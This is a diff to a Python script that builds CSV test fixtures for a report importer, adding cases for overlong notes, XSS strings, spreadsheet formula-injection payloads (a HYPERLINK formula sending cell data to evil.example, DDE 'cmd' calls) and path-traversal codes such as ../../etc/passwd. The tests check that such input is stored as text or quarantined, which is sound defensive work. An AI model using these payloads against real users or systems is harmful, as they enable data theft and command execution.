@@ -207,6 +207,7 @@ def main():
 
     encodings()
     csv_shapes()
+    values_and_hostile_content()
 
 
 def encodings():
@@ -238,7 +239,6 @@ def encodings():
           "accepted 2", "row 3 TRUNG_DONG ma_muc", "note 2 " + note, "note 3 " + note, "note 4 Trường đã quán triệt"])
 
 
-
 def csv_shapes():
     bom = "\ufeff"
     case("ok-bom-in-the-middle.csv", bom + H
@@ -267,6 +267,48 @@ def csv_shapes():
          + "CB-A\n",
          ["# rows with fewer cells than the header: the first missing required field is named",
           "accepted 1", "row 3 THIEU_GIA_TRI gia_tri", "row 4 THIEU_GIA_TRI ma_ke_hoach"])
+
+
+def values_and_hostile_content():
+    sentence = "Chi bộ tổ chức quán triệt Nghị quyết số 20-NQ/TU đến toàn thể đảng viên, có biên bản kèm theo. "
+    long_note = (sentence * 200)[:10000]
+    too_long = (sentence * 500)[:40000]
+    case("bad-very-long-notes.csv", H
+         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\"" + long_note + "\"\n"
+         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,\"" + too_long + "\"\n",
+         ["# a 10.000-character note is kept whole; one longer than an Excel cell (32.767) cannot have been typed in one"
+          " and could not be exported to .xlsx", "accepted 1", "row 3 NOI_DUNG_QUA_DAI ghi_chu", "message 40.000 ký tự"])
+    notes = ["<script>alert('xss')</script>", "<img src=x onerror=alert(1)>", "</td></tr><svg onload=alert(1)>",
+             "&lt;b&gt; đã là văn bản &amp; giữ nguyên"]
+    items = ["NV1", "NV2", "MH-DK", "CBVC"]
+    values = ["hoàn thành", "chưa thực hiện", "3", "40"]
+    case("ok-html-script-in-notes.csv", H
+         + "".join("CB-A,12-KH/ĐU,2024-H1,28/04/2024,%s,%s,\"%s\"\n" % (i, v, n) for i, v, n in zip(items, values, notes))
+         + "<script>alert(1)</script>,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
+         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,<b>3</b>,\n",
+         ["# HTML and script in notes are text, stored as typed (escaping is the pages' job); in codes and values they are"
+          " quarantined like any unknown code or malformed number", "accepted 4", "row 6 DON_VI_KHONG_TON_TAI ma_don_vi",
+          "row 7 SO_KHONG_HOP_LE gia_tri", "message '<script>alert(1)</script>'"]
+         + ["note %d %s" % (r + 2, n) for r, n in enumerate(notes)])
+    formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0"]
+    case("ok-formula-text-in-notes.csv", H
+         + "".join("CB-A,12-KH/ĐU,2024-H1,28/04/2024,%s,%s,\"%s\"\n" % (i, v, n.replace('"', '""'))
+                   for i, v, n in zip(items, values, formulas))
+         + "DB-D,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,=1+2,\n",
+         ["# formula text in notes is accepted as text and never evaluated (exports neutralise it);"
+          " a formula as a value is not a number", "accepted 4", "row 6 SO_KHONG_HOP_LE gia_tri"]
+         + ["note %d %s" % (r + 2, n) for r, n in enumerate(formulas)])
+    case("bad-path-traversal-codes.csv", H
+         + "../../etc/passwd,12-KH/ĐU,2024-H1,28/04/2024,NV1,hoàn thành,\n"
+         + "CB-A,../../../etc/passwd,2024-H1,28/04/2024,NV1,hoàn thành,\n"
+         + "CB-A,12-KH/ĐU,../2024-H1,28/04/2024,NV1,hoàn thành,\n"
+         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,..\\..\\Windows\\win.ini,3,\n"
+         + "CB-A,12-KH/ĐU,2024-H1,28/04/2024,MH-DK,3,../../etc/passwd\n",
+         ["# path traversal in codes is an unknown code: quarantined, and no typed text ever names a folder of the store"
+          " (the test checks every row's plan slug and unit come from the catalog); in a note it is text",
+          "accepted 1", "row 2 DON_VI_KHONG_TON_TAI ma_don_vi", "row 3 KE_HOACH_KHONG_TON_TAI ma_ke_hoach",
+          "row 4 KY_KHONG_HOP_LE ky_bao_cao", "row 5 MUC_KHONG_TON_TAI ma_muc", "note 6 ../../etc/passwd"])
 
 
 if __name__ == "__main__":
